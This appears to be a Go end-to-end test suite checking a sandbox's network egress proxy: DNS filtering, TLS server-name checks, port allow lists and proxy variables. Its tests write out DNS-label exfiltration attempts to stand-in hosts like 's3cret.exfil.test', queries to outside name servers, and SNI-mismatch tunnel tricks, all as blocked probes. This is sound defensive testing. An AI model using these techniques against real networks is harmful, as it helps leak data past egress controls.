package e2e

import (
	"encoding/binary"
	"fmt"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"time"
)

// Reports of users about side channels (C21), names in TLS (C22) and clients (C23).

// TestB142_DeniedNamesAreNotResolved: no data leaves in the labels of a name.
func TestB142_DeniedNamesAreNotResolved(t *testing.T) {
	t.Parallel()
	l := sharedLab(t)
	got := l.Admin().Sh(labList, `getent hosts s3cret.exfil.test || echo none
python3 -c 'import socket; socket.getaddrinfo("s4.exfil.test", 80)' 2>&1 | tail -1
curl -sS -m 5 http://s5.exfil.test/ 2>&1; echo
curl -sS -m 5 --noproxy "*" http://s6.exfil.test/ 2>&1; echo
getent hosts allowed.test`)
	if !regexp.MustCompile(`(?s)^none\n.*gaierror.*Host not allowed: s5\.exfil\.test\n.*resolve.*\n127\.\S+ +allowed\.test\n$`).MatchString(got) {
		t.Errorf("the names: %s", got)
	}
	l.clean()
	// The control: what is allowed is asked for, when somebody connects to it.
	want(t, "without a proxy", l.Admin().Sh(labList, `curl -sS -m 20 --noproxy "*" http://allowed.test/b142 2>&1`), "lab: allowed.test/b142")
	if !l.net.asked("/b142") {
		t.Error("control: the lab does not see a request that is allowed")
	}
	l.clean()
}

// question is one to a name server, of a type.
func question(name string, kind uint16) string {
	b := []byte{0xab, 0xcd, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0}
	for label := range strings.SplitSeq(name, ".") {
		b = append(append(b, byte(len(label))), label...)
	}
	b = binary.BigEndian.AppendUint16(append(b, 0), kind)
	runes := make([]rune, 0, len(b)+2)
	for _, c := range binary.BigEndian.AppendUint16(b, 1) {
		runes = append(runes, rune(c))
	}
	return string(runes)
}

// TestB144_NameServers: none is reached but the sandbox's own, which asks nobody
// for what is not allowed.
func TestB144_NameServers(t *testing.T) {
	t.Parallel()
	l := sharedLab(t)
	const a, txt, aaaa, https, axfr = 1, 16, 28, 65, 252
	var probes []netProbe
	for _, at := range append(nameServers(), labEvil, "8.8.8.8", "192.0.2.1", "127.0.0.53", "127.0.0.1") {
		for _, kind := range []uint16{a, txt, aaaa, https, axfr} {
			probes = append(probes, netProbe{"via": "udp", "target": at, "port": 53, "bytes": question("s7.exfil.test", kind)})
		}
		probes = append(probes, netProbe{"via": "tcp", "target": at, "port": 53})
	}
	got := l.Admin().probe(labList, probes)
	for i, g := range got {
		if p := probes[i]; p["target"] != "127.0.0.53" && (g == "answered" || g == "connected") {
			t.Errorf("%s at %v: %v", p["via"], p["target"], g)
		}
	}
	l.clean()
}

// tlsClient is a program that speaks TLS by CONNECT, with any name or none.
const tlsClient = `python3 - allowed.test:443 '%s' <<'END'
import socket, ssl, sys
to, name = sys.argv[1], sys.argv[2]
s = socket.create_connection(("127.0.0.1", 3128), 20)
s.sendall(("CONNECT %%s HTTP/1.1\r\n\r\n" %% to).encode())
print(s.recv(4096).split(b"\r\n")[0].decode())
c = ssl.create_default_context()
c.check_hostname, c.verify_mode = False, ssl.CERT_NONE
try:
    c.wrap_socket(s, server_hostname=name or None).close()
    print("handshake")
except OSError as e:
    print(type(e).__name__, e)
END`

// TestB146_ServerName: a tunnel to one host is not for another one behind the same
// address, nor for one that TLS does not name.
func TestB146_ServerName(t *testing.T) {
	t.Parallel()
	l := sharedLab(t)
	c := l.Admin()
	c.Create(`{"name":"b146","network":{"allow":["allowed.test"]}}`)
	if got := c.Sh("b146", "curl -sk --connect-to denied.test:443:allowed.test:443 https://denied.test/ -o /dev/null -w '%{http_code}'"); got != "000" {
		t.Errorf("another name: %q", got)
	}
	tls := func(name string) string {
		return c.Sh("b146", fmt.Sprintf(tlsClient, name))
	}
	want(t, "no name", tls(""), "SSLError")
	want(t, "another name", tls("denied.test"), "SSLError")
	want(t, "upper case", tls("ALLOWED.TEST"), "handshake")
	codes := map[any]int{}
	for _, r := range c.connections("b146", 4) {
		codes[r["code"]]++
	}
	if codes["sni_mismatch"] != 2 || codes["sni_missing"] != 1 {
		t.Errorf("the records have the codes %v", codes)
	}
	for _, h := range l.net.reached() {
		if h.Host == "denied.test" {
			t.Errorf("the request of another name arrived: %+v", h)
		}
	}
	l.clean()
}

// TestB149_OtherPorts: a protocol in which the server speaks first works on a port
// that the list names, and on no other.
func TestB149_OtherPorts(t *testing.T) {
	t.Parallel()
	l := sharedLab(t)
	c := l.Admin()
	c.Create(`{"name":"b149","network":{"allow":["allowed.test","allowed.test:2222"]}}`)
	got := c.Sh("b149", `python3 - <<'END'
import socket
for port in (2222, 2223):
    s = socket.create_connection(("127.0.0.1", 3128), 20)
    s.settimeout(20)
    f = s.makefile("rb")
    s.sendall(b"CONNECT allowed.test:%d HTTP/1.1\r\n\r\n" % port)
    print(f.readline().split()[1].decode())
    if port == 2222:
        print(f.readline() + f.readline())
        s.sendall(b"echo\n")
        print(f.readline())
END`)
	if want := "200\nb'\\r\\nSSH-2.0-lab\\r\\n'\nb'echo\\n'\n403\n"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
	l.clean()
}

// TestB150_ProxyVariables: both spellings, with equal values, and the mark that
// Node's fetch asks for.
func TestB150_ProxyVariables(t *testing.T) {
	t.Parallel()
	l := sharedLab(t)
	got := l.Admin().Sh(labList, "env | grep -i -E '_proxy=|NODE_USE' | sort")
	env := map[string]string{}
	for line := range strings.Lines(got) {
		name, value, _ := strings.Cut(strings.TrimSpace(line), "=")
		env[name] = value
	}
	for _, name := range []string{"HTTP_PROXY", "HTTPS_PROXY", "NO_PROXY"} {
		if env[name] == "" || env[name] != env[strings.ToLower(name)] {
			t.Errorf("%s is %q, %s is %q", name, env[name], strings.ToLower(name), env[strings.ToLower(name)])
		}
	}
	if env["NODE_USE_ENV_PROXY"] != "1" {
		t.Errorf("the environment: %s", got)
	}
}

// TestB152_OwnServers: what a sandbox serves to itself is reached without the proxy,
// by whatever name.
func TestB152_OwnServers(t *testing.T) {
	t.Parallel()
	l := sharedLab(t)
	c := l.Admin()
	c.Create(`{"name":"b152","network":{"allow":["allowed.test"]}}`)
	c.Background("b152", `mkdir -p /tmp/www && cd /tmp/www && git init -q --bare r.git && git -C r.git update-server-info && (python3 -m http.server --bind 0.0.0.0 8000 & exec python3 -m http.server --bind ::1 8001) >/dev/null 2>&1`)
	Until(t, soon, "the servers wait", func() bool {
		return !strings.Contains(c.Sh("b152", "curl -s --noproxy '*' -o /dev/null http://127.0.0.1:8000/r.git/HEAD && curl -s --noproxy '*' -o /dev/null http://[::1]:8001/r.git/HEAD || echo no"), "no")
	})
	got := c.Sh("b152", `for url in http://localhost:8000 http://127.0.0.1:8000 "http://[::1]:8001" http://$(hostname):8000; do
curl -s -o /dev/null -w '%{http_code} ' $url/r.git/HEAD
python3 -c 'import sys, urllib.request; print(urllib.request.urlopen(sys.argv[1]).status, end=" ")' $url/r.git/HEAD
git ls-remote $url/r.git >/dev/null 2>&1 && echo git || echo no git
done`)
	if want := strings.Repeat("200 200 git\n", 4); got != want {
		t.Errorf("got\n%s", got)
	}
	want(t, "control", c.Sh("b152", "curl -sS http://allowed.test/b152 2>&1"), "lab:")
	if recs := c.connections("b152", 1); len(recs) != 1 || recs[0]["path"] != "/b152" {
		t.Errorf("the records are %v", recs)
	}
	l.clean()
}

// TestB154_ProxyAddress is the same whatever the list, and has nothing in it that
// clients could read in different ways.
func TestB154_ProxyAddress(t *testing.T) {
	t.Parallel()
	l := sharedLab(t)
	c := l.Admin()
	c.Create(`{"name":"b154"}`)
	for i := range Sized(10, 50) {
		var hosts []string
		for j := range i*20 + 1 {
			hosts = append(hosts, fmt.Sprintf("%q", fmt.Sprintf("host-%d-%d.example.com:%d", i, j, 1000+j)))
		}
		c.setNetwork("b154", `{"allow":[`+strings.Join(hosts, ",")+`]}`)
		if got := c.Sh("b154", "echo $https_proxy $http_proxy"); got != "http://127.0.0.1:3128 http://127.0.0.1:3128\n" {
			t.Errorf("with %d hosts the proxy is %q", len(hosts), got)
		}
	}
}

// TestB155_Apt takes the proxy from its environment.
func TestB155_Apt(t *testing.T) {
	t.Parallel()
	l := sharedLab(t)
	c := l.Admin()
	c.Create(`{"name":"b155","user":"root","network":{"allow":["allowed.test"]}}`)
	got := c.Sh("b155", `rm -rf /etc/apt/sources.list.d/*; echo 'deb [trusted=yes] http://allowed.test/b155 stable main' >/etc/apt/sources.list; apt-get update 2>&1; true`)
	if !l.net.asked("/b155/dists/stable/InRelease") {
		t.Errorf("apt does not reach the server: %s", got)
	}
	l.clean()
}

// TestB156_NoProxy: who ignores the proxy is told at once.
func TestB156_NoProxy(t *testing.T) {
	t.Parallel()
	l := sharedLab(t)
	c := l.Admin()
	c.Create(`{"name":"b156","network":{"allow":["allowed.test"],"resolver":false}}`)
	began := time.Now()
	got := c.Sh("b156", "unset $(env | grep -io '^[a-z_]*proxy'); curl -sS -m 5 http://allowed.test/ 2>&1; curl -sS -m 5 http://"+labAllowed+"/ 2>&1")
	if took := time.Since(began); took > time.Second+Slack() || strings.Contains(got, "lab:") || !strings.Contains(got, "curl: (6)") || !strings.Contains(got, "curl: (7)") {
		t.Errorf("after %v: %s", took, got)
	}
	if a := c.Send("PUT", api+"/sandboxes/b156/network", `{"allow":["allowed.test"],"resolver":true}`); a.Code != http.StatusOK {
		t.Errorf("the way that there is for them: %v", a)
	}
	want(t, "by the resolver", c.Sh("b156", "unset $(env | grep -io '^[a-z_]*proxy'); curl -sS -m 20 http://allowed.test/ 2>&1"), "lab: allowed.test")
	l.clean()
}
